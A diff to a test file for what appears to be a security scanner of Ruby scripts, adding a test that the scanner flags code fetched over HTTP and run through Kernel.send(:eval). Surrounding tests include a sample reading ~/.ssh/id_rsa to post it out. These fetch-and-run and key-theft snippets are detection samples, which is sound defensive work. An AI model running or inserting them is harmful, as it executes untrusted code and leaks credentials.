@@ -86,6 +86,13 @@ def test_a_streamed_download_written_to_a_file_then_loaded():
     assert _scan(script) == [("DX-04", "high", 12)]
 
 
+def test_eval_reached_through_send():
+    script = ("require 'net/http'\n"
+              "src = Net::HTTP.get(URI('https://x.example.net/a.rb'))\n"
+              "Kernel.send(:eval, src)\n")
+    assert _scan(script) == [("DX-04", "high", 3)]
+
+
 def test_an_ssh_key_posted_with_post_form():
     script = ("require 'net/http'\n"
               "key = File.read(File.expand_path('~/.ssh/id_rsa'))\n"
